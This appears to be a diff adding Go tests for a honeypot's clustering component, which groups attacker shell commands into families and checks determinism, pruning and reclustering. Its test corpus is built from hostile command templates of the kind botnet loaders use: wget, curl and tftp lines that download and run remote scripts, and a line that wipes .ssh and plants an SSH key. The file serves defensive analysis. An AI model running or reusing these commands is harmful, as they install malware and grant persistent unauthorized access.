@@ -1,0 +1,164 @@
+package live
+
+import (
+	"math/rand"
+	"testing"
+
+	"honeynet/internal/textdist"
+)
+
+// assignCorpus fabricates command-text variants around a few distinct
+// templates, the shape live assignment sees from loader campaigns.
+func assignCorpus(n int, seed int64) []string {
+	templates := []string{
+		"cd /tmp; wget http://%s/bot.sh; chmod +x bot.sh; ./bot.sh",
+		"cd ~ && rm -rf .ssh && echo ssh-rsa %s >> .ssh/authorized_keys",
+		"uname -a; nproc; curl -fsSL http://%s/x86 -o /tmp/x; /tmp/x",
+		"/bin/busybox %s; tftp -g -r a.sh 10.0.0.1; sh a.sh",
+	}
+	rng := rand.New(rand.NewSource(seed))
+	out := make([]string, 0, n)
+	for i := 0; i < n; i++ {
+		t := templates[rng.Intn(len(templates))]
+		tag := string([]byte{
+			byte('a' + rng.Intn(26)), byte('a' + rng.Intn(26)),
+			byte('a' + rng.Intn(26)), byte('a' + rng.Intn(26)),
+		})
+		out = append(out, replaceVerb(t, tag))
+	}
+	return out
+}
+
+func replaceVerb(t, tag string) string {
+	b := make([]byte, 0, len(t)+len(tag))
+	for i := 0; i < len(t); i++ {
+		if t[i] == '%' && i+1 < len(t) && t[i+1] == 's' {
+			b = append(b, tag...)
+			i++
+			continue
+		}
+		b = append(b, t[i])
+	}
+	return string(b)
+}
+
+// TestAssignDeterminism is the second correctness bar: identical seed
+// and arrival order must yield identical medoids, assignments, and
+// counters.
+func TestAssignDeterminism(t *testing.T) {
+	texts := assignCorpus(3000, 42)
+	run := func() *assigner {
+		a := newAssigner(8, 64, 0.4, 0.3, 100, 7)
+		for _, txt := range texts {
+			a.observe(txt)
+		}
+		return a
+	}
+	a, b := run(), run()
+	if len(a.medoids) != len(b.medoids) {
+		t.Fatalf("medoid counts differ: %d vs %d", len(a.medoids), len(b.medoids))
+	}
+	for i := range a.medoids {
+		if a.medoids[i].text != b.medoids[i].text {
+			t.Fatalf("medoid %d differs: %q vs %q", i, a.medoids[i].text, b.medoids[i].text)
+		}
+		if a.medoids[i].count != b.medoids[i].count || a.medoids[i].sumDist != b.medoids[i].sumDist {
+			t.Fatalf("medoid %d stats differ", i)
+		}
+	}
+	if a.assigned != b.assigned || a.pruned != b.pruned || a.kernel != b.kernel ||
+		a.reclusters != b.reclusters || a.silhouette != b.silhouette {
+		t.Fatalf("counters differ: %+v-ish vs %+v-ish",
+			[]int64{a.assigned, a.pruned, a.kernel, a.reclusters},
+			[]int64{b.assigned, b.pruned, b.kernel, b.reclusters})
+	}
+	for i := range a.reservoir {
+		if a.reservoir[i].text != b.reservoir[i].text {
+			t.Fatalf("reservoir %d differs", i)
+		}
+	}
+}
+
+// TestNearestPruningExact verifies the multiset lower bound never
+// changes the answer: nearest with pruning must equal the brute-force
+// argmin over the full kernel.
+func TestNearestPruningExact(t *testing.T) {
+	texts := assignCorpus(400, 9)
+	a := newAssigner(16, 32, 0.4, 0.3, 0, 3)
+	ref := textdist.NewScratch()
+	for _, txt := range texts {
+		tokens := a.interner.Intern(textdist.Tokenize(txt))
+		// Brute force before observe mutates the medoid set.
+		wantBest, wantDist := -1, 0.0
+		for i := range a.medoids {
+			d := ref.NormalizedIDs(tokens, a.medoids[i].tokens)
+			if wantBest < 0 || d < wantDist {
+				wantBest, wantDist = i, d
+			}
+		}
+		got, gotDist := a.nearest(tokens)
+		if got != wantBest || gotDist != wantDist {
+			t.Fatalf("nearest (%d, %v) != brute force (%d, %v) for %q",
+				got, gotDist, wantBest, wantDist, txt)
+		}
+		a.observe(txt)
+	}
+	if a.pruned == 0 {
+		t.Fatal("lower bound never pruned anything — test corpus too uniform or bound broken")
+	}
+}
+
+// TestAssignClusterQuality checks the leader step actually separates
+// the four template families instead of collapsing them.
+func TestAssignClusterQuality(t *testing.T) {
+	texts := assignCorpus(2000, 5)
+	a := newAssigner(16, 128, 0.4, 0.25, 200, 1)
+	for _, txt := range texts {
+		c, d := a.observe(txt)
+		if c < 0 || c >= len(a.medoids) {
+			t.Fatalf("bad cluster index %d", c)
+		}
+		if d < 0 || d > 1 {
+			t.Fatalf("distance %v out of [0,1]", d)
+		}
+	}
+	if len(a.medoids) < 4 {
+		t.Fatalf("expected at least the 4 template families, got %d clusters", len(a.medoids))
+	}
+	// Drift per cluster should be small: variants differ by one token.
+	for i := range a.medoids {
+		m := &a.medoids[i]
+		if m.count > 10 && m.sumDist/float64(m.count) > 0.5 {
+			t.Fatalf("cluster %d mean dist %v — variants not cohering", i, m.sumDist/float64(m.count))
+		}
+	}
+}
+
+// TestReclusterTriggers forces silhouette decay (drifting templates
+// after the medoids are founded) and checks the rebuild fires.
+func TestReclusterTriggers(t *testing.T) {
+	a := newAssigner(4, 64, 0.3, 0.99, 50, 1) // impossible floor: every check reclusters
+	texts := assignCorpus(600, 13)
+	for _, txt := range texts {
+		a.observe(txt)
+	}
+	if a.checks == 0 {
+		t.Fatal("drift check never ran")
+	}
+	if a.reclusters == 0 {
+		t.Fatal("silhouette floor 0.99 should have forced a recluster")
+	}
+	if len(a.medoids) == 0 || len(a.medoids) > 4 {
+		t.Fatalf("bad medoid count %d after recluster", len(a.medoids))
+	}
+}
+
+// TestAssignZeroClusters: MaxClusters 0 must be a safe no-op.
+func TestAssignZeroClusters(t *testing.T) {
+	a := newAssigner(0, 8, 0.4, 0.3, 10, 1)
+	for _, txt := range assignCorpus(50, 2) {
+		if c, _ := a.observe(txt); c != -1 {
+			t.Fatalf("expected -1 with MaxClusters 0, got %d", c)
+		}
+	}
+}
